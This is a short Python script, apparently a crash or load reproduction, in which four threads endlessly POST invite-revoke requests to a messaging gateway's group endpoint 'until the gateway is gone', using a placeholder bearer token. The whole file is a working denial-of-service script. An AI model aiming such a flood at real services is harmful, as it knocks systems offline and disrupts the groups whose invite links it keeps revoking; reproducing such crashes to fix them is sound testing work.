"""Four callers that revoke invite links until the gateway is gone. Argument: its URL."""

import http.client
import sys
import threading

ADDRESS = sys.argv[1].removeprefix("http://")
PATH = "/v1/sessions/main/groups/120363000000000001@g.us/invite/revoke"


def caller():
    try:
        while True:
            connection = http.client.HTTPConnection(ADDRESS, timeout=20)
            for _ in range(25):
                connection.request("POST", PATH, headers={"Authorization": "Bearer demo-token"})
                connection.getresponse().read()
            connection.close()
    except (OSError, http.client.HTTPException):
        return


threads = [threading.Thread(target=caller) for _ in range(4)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
